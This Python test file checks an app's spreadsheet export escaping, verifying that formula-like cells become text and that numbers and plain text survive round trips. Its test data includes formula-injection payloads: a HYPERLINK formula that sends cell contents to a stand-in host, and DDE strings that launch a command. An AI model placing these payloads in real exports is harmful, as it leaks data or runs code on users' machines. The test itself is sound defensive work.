"""F11: a cell that goes to a spreadsheet is text there, and our own copy comes back as it was."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.services.cells import as_rows, protected, unprotected

FORMULAS = [
    '=HYPERLINK("http://x.example?"&A1,"SENTINEL")', "=1+1", "+1+1", "-1-1", "@SUM(A1)", "=",
    "-2+3+cmd|' /C calc'!A0", " =1+1", "\u00a0=1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1",
    "\uff0b1", "\uff0d1", "\uff20A", "+A1", "-A1", "+31 6 SENTINEL", "--1", "-1;2", "+1,2!A",
    "-€", "'=1+1", "''=1", "-1E5", "-1 000x", "- SENTINEL", "+-+1", "=cmd|'/c calc'!A1",
]  # fmt: skip
NUMBERS = [
    "-12,50", "+12,50", "-12.50", "€ -12,50", "-€ 12,50", "- 12", "+\u00a0€\u00a01.234,00", "-5%",
    "+3,5%", "-3,5 %", "-", "0", "€\u00a012,00", "-12,50 €", "+31 6 12345678", "-1.234.567,89",
]  # fmt: skip


@pytest.mark.parametrize("cell", FORMULAS)
def test_f11_a_formula_is_text(cell: str) -> None:
    written = protected(cell)
    assert written.lstrip()[0] == "'"
    assert not {"\t", "\n", "\r"} & set(written)


@pytest.mark.parametrize("cell", NUMBERS)
def test_f11_a_number_stays_a_number(cell: str) -> None:
    assert protected(cell) == cell


@pytest.mark.parametrize("cell", ["SENTINEL", "a=b", "1-2", "", "'s avonds", "a@b.nl", "€ 1,00"])
def test_f11_another_text_stays_as_it_is(cell: str) -> None:
    assert protected(cell) == cell


@pytest.mark.parametrize("mark", ["\t", "\n", "\r", "\r\n", "\x0b", "\x0c", "\x85", "\u2028"])
def test_f11_no_cell_begins_another(mark: str) -> None:
    assert protected(f"a{mark}=b") == "a =b"
    assert as_rows([[f"a{mark}=b", "c"], ["d", "e"]]) == "a =b\tc\nd\te"


def test_f11_a_quotation_mark_swallows_nothing() -> None:
    assert as_rows([['"a', 'b"'], ["c", 'd "e" f']]) == '"""a"\tb"\nc\td "e" f'


@given(st.text(alphabet="=+-@'\"\uff1d 1,.ax\u00a0€%", max_size=12))
def test_f11_our_own_copy_comes_back(cell: str) -> None:
    written = protected(cell)
    if not written.startswith('"'):  # what is in quotation marks is read as such
        assert unprotected(written) == cell
    assert protected(unprotected(written)) == protected(cell) or written.startswith('"')


@given(st.lists(st.lists(st.text(alphabet="=+-@'1,ax ", max_size=6), min_size=1), min_size=1))
def test_f11_whole_tables_come_back(rows: list[list[str]]) -> None:
    assert unprotected(as_rows(rows)) == "\n".join("\t".join(cells) for cells in rows)


def test_f11_what_others_copied_is_left_alone() -> None:
    text = "'s avonds\t-12,50\t'-12,50\t'quoted'\n=SUM(A1)\t' =\u00e9"
    assert unprotected(text) == text
